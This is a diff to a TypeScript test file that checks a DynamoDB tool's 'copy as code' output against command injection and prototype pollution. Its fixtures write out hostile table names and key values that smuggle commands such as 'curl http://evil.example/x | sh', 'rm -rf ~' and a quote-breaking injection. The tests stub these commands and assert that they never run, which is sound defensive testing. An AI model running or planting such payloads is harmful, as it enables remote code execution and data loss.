@@ -2,13 +2,15 @@
 // real shell split the CLI call, gives back exactly the input the panel ran.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { execFileSync } from 'node:child_process';
+import { execFileSync, spawnSync } from 'node:child_process';
 import type { AttributeValue, QueryCommandInput } from '@aws-sdk/client-dynamodb';
 import { NumberValue } from '@aws-sdk/lib-dynamodb';
 import { marshall } from '@aws-sdk/util-dynamodb';
+import ts from 'typescript';
 import { copyAsCode, shellQuote, type SentRequest } from '../../../src/core/query/copyAsCode';
 import { parseCondition } from '../../../src/core/query/conditionParser';
 import { buildQuery, buildScan } from '../../../src/core/query/requests';
+import type { TableModel } from '../../../src/core/tables/tableModel';
 import { files, shop } from './fixtures';
 
 /** The object literal after `const input = `, evaluated with the names the snippet imports. */
@@ -99,4 +101,81 @@ test('shell quoting leaves plain words alone and closes every quote', () => {
   assert.equal(shellQuote('us-east-1'), 'us-east-1');
   assert.equal(shellQuote("it's"), `'it'\\''s'`);
   assert.equal(execFileSync('bash', ['-c', `printf '%s' ${shellQuote(hostile)}`], { encoding: 'utf8' }), hostile);
+});
+
+// Names a hostile endpoint's DescribeTable (or ListTables) could return: line breaks, a carriage
+// return (a pasted CR runs the line in a terminal), JavaScript's line separators, a quote.
+const hostileTable = "orders\ncurl http://evil.example/x | sh\r\ncurl http://evil.example/y | sh\u2028fetch('http://evil.example/z')\u2029// '";
+const hostileIndex = "GSI1\nrm -rf ~ #\u2028process.exit(1)//";
+const hostileSent: SentRequest = {
+  operation: 'Query',
+  input: buildQuery({
+    table: { ...shop, name: hostileTable, indexes: [{ ...(shop.indexes[0] as TableModel['indexes'][number]), name: hostileIndex }] },
+    index: hostileIndex, pk: "x'; curl http://evil.example | sh; '", limit: 5,
+  }).input,
+};
+
+/** The simple commands a shell runs for `script` (a DEBUG trap records each), with `aws` a stub. */
+function commandsRun(script: string): string[] {
+  const wrapped = `aws() { :; }\ncurl() { :; }\nrm() { :; }\ntrap 'printf "%s\\0" "$BASH_COMMAND" >&2' DEBUG\n${script}`;
+  const result = spawnSync('bash', ['-c', wrapped], { encoding: 'utf8' });
+  assert.equal(result.status, 0, result.stderr);
+  return result.stderr.split('\0').slice(0, -1);
+}
+
+function jsStatements(code: string): ts.SyntaxKind[] {
+  const out = ts.transpileModule(code, { reportDiagnostics: true, compilerOptions: { module: ts.ModuleKind.ESNext, target: ts.ScriptTarget.ES2022 } });
+  assert.deepEqual((out.diagnostics ?? []).map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')), [], code);
+  return ts.createSourceFile('copied.mjs', code, ts.ScriptTarget.ES2022, false, ts.ScriptKind.JS).statements.map((s) => s.kind);
+}
+
+test('a table or index name with line breaks stays inside the CLI comment: bash runs only the aws call', () => {
+  const cli = copyAsCode('cli', hostileSent, { region: 'us-east-1' });
+  execFileSync('bash', ['-n'], { input: cli });
+  const run = commandsRun(cli);
+  assert.equal(run.length, 1, run.join('\n'));
+  assert.match(run[0] as string, /^aws dynamodb query /);
+  assert.equal(cli.split('\n')[0], `# Query ${hostileTable.replace(/[\n\r\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)} (index ${hostileIndex.replace(/[\n\u2028]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)}): the request Dynamo Guard's query panel sent, as one AWS CLI call.`);
+  assert.doesNotMatch(cli, /\r/);
+  // The arguments still carry the names exactly.
+  const argv = execFileSync('bash', ['-c', `aws() { printf '%s\\0' "$@"; }\n${cli}`], { encoding: 'utf8' }).split('\0');
+  assert.equal(argv[argv.indexOf('--table-name') + 1], hostileTable);
+  assert.equal(argv[argv.indexOf('--index-name') + 1], hostileIndex);
+});
+
+test('a table or index name with line breaks stays inside the JavaScript comment: the snippets parse to the same statements', () => {
+  const { ImportDeclaration: imp, VariableStatement: declare, ExpressionStatement: call } = ts.SyntaxKind;
+  assert.deepEqual(jsStatements(copyAsCode('sdk-client', hostileSent, {})), [imp, declare, declare, declare, call]);
+  assert.deepEqual(jsStatements(copyAsCode('sdk-document', hostileSent, {})), [imp, imp, declare, declare, declare, call]);
+  const input = evaluateInput(copyAsCode('sdk-client', hostileSent, {}));
+  assert.equal(input.TableName, hostileTable);
+  assert.equal(input.IndexName, hostileIndex);
+});
+
+test('a key attribute named __proto__ survives into the copied ExclusiveStartKey and values, in every flavour', () => {
+  const startKey = JSON.parse('{"PK":{"S":"A"},"SK":{"S":"B"},"__proto__":{"S":"proto-value"}}') as Record<string, AttributeValue>;
+  const mapValue = JSON.parse('{"M":{"__proto__":{"S":"inner"}}}') as AttributeValue;
+  const sent: SentRequest = { operation: 'Query', input: { ...buildQuery({ table: shop, pk: 'A', startKey }).input } };
+  (sent.input.ExpressionAttributeValues as Record<string, AttributeValue>)[':m'] = mapValue;
+  const own = (o: unknown, key: string) => Object.getOwnPropertyDescriptor(o, key)?.value as unknown;
+
+  const client = evaluateInput(copyAsCode('sdk-client', sent, {}));
+  assert.deepEqual(own(client.ExclusiveStartKey, '__proto__'), { S: 'proto-value' });
+  assert.equal(Object.getPrototypeOf(client.ExclusiveStartKey), Object.prototype);
+  assert.deepEqual(own(own((client.ExpressionAttributeValues as Record<string, unknown>)[':m'], 'M'), '__proto__'), { S: 'inner' });
+
+  const doc = evaluateInput(copyAsCode('sdk-document', sent, {}));
+  assert.equal(own(doc.ExclusiveStartKey, '__proto__'), 'proto-value');
+  assert.equal(own((doc.ExpressionAttributeValues as Record<string, unknown>)[':m'], '__proto__'), 'inner');
+
+  const argv = execFileSync('bash', ['-c', `aws() { printf '%s\\0' "$@"; }\n${copyAsCode('cli', sent, {})}`], { encoding: 'utf8' }).split('\0');
+  const cliKey = JSON.parse(argv[argv.indexOf('--exclusive-start-key') + 1] as string) as object;
+  assert.deepEqual(own(cliKey, '__proto__'), { S: 'proto-value' });
+});
+
+test('shell quoting writes control characters as $\'…\' escapes, so a pasted value never carries a raw line break', () => {
+  const value = "a\nb\rc\td'e\\f\u0007";
+  const quoted = shellQuote(value);
+  assert.doesNotMatch(quoted, /[\n\r\t\u0007]/);
+  assert.equal(execFileSync('bash', ['-c', `printf '%s' ${quoted}`], { encoding: 'utf8' }), value);
 });
